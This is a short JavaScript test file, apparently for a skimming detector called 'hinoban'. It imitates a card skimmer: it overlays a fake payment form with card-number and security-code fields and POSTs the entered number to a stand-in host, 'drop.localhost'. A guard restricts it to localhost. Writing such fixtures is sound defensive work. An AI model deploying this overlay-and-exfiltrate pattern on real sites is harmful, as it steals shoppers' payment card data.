/* Harmless imitation, for hinoban's tests: fake form over the real one, then the real one. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('load', function () {
	var form = document.querySelector('form#pay'), box = form.getBoundingClientRect(), over = document.createElement('div');
	over.style.cssText = 'position:absolute;z-index:9999;background:#fff;left:' + box.left + 'px;top:' + box.top + 'px;width:' +
		box.width + 'px;height:' + box.height + 'px';
	over.innerHTML = '<input autocomplete="cc-number" placeholder="Card"><input autocomplete="cc-csc"><button type=button>Pay</button>';
	document.body.appendChild(over);
	over.querySelector('button').onclick = function () {
		fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: over.querySelector('input').value}); over.remove();
	};
});
